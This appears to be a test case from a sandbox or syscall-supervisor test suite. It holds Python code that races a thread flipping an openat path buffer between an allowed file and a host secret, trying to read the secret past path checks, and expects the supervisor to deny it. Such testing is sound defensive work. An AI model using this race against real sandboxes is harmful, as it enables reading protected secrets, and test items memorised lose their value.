# id: SUP-01
# category: supervisor
# technique: a sibling thread flips the openat path buffer between an allowed file and the host secret while the main thread loops openat
# expect: DENY(ENOENT)
# catalogue: 1
# race: yes
# audit: view.hidden
import ctypes, os, threading, time, pvesc

def race(good, bad, seconds=1.5):
    n = max(len(good), len(bad)) + 1
    buf = ctypes.create_string_buffer(n)
    g = good.encode().ljust(n, b"\0")
    b = bad.encode().ljust(n, b"\0")
    stop = [False]
    def flip():
        while not stop[0]:
            ctypes.memmove(buf, g, n)
            ctypes.memmove(buf, b, n)
    th = threading.Thread(target=flip)
    th.start()
    seen = set()
    end = time.time() + seconds
    while time.time() < end:
        fd, e = pvesc.sc(257, -100, buf, os.O_RDONLY, 0)
        if fd >= 0:
            seen.add(os.read(fd, 100))
            os.close(fd)
    stop[0] = True
    th.join()
    for s in seen:
        pvesc.out("got", s)
    return seen

def attack(c):
    with open("allowed.txt", "w") as f:
        f.write("allowed\n")
    race(os.path.abspath("allowed.txt"), c["secret"])

def twin(c):
    for n in ("a.txt", "b.txt"):
        with open(n, "w") as f:
            f.write(n + "\n")
    seen = race(os.path.abspath("a.txt"), os.path.abspath("b.txt"), 0.5)
    return b"a.txt\n" in seen or b"b.txt\n" in seen

pvesc.main(attack, twin)
